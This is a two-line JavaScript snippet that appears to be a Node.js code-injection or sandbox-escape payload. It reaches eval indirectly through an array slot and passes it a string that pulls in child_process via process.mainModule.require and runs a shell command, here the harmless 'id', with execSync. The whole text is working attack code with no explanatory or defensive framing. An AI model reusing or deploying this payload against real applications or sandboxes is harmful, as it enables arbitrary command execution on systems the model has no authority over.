const slots = [JSON.parse, eval];
slots[1]("process.mainModule.require('child_process').execSync('id', {stdio: 'inherit'})");
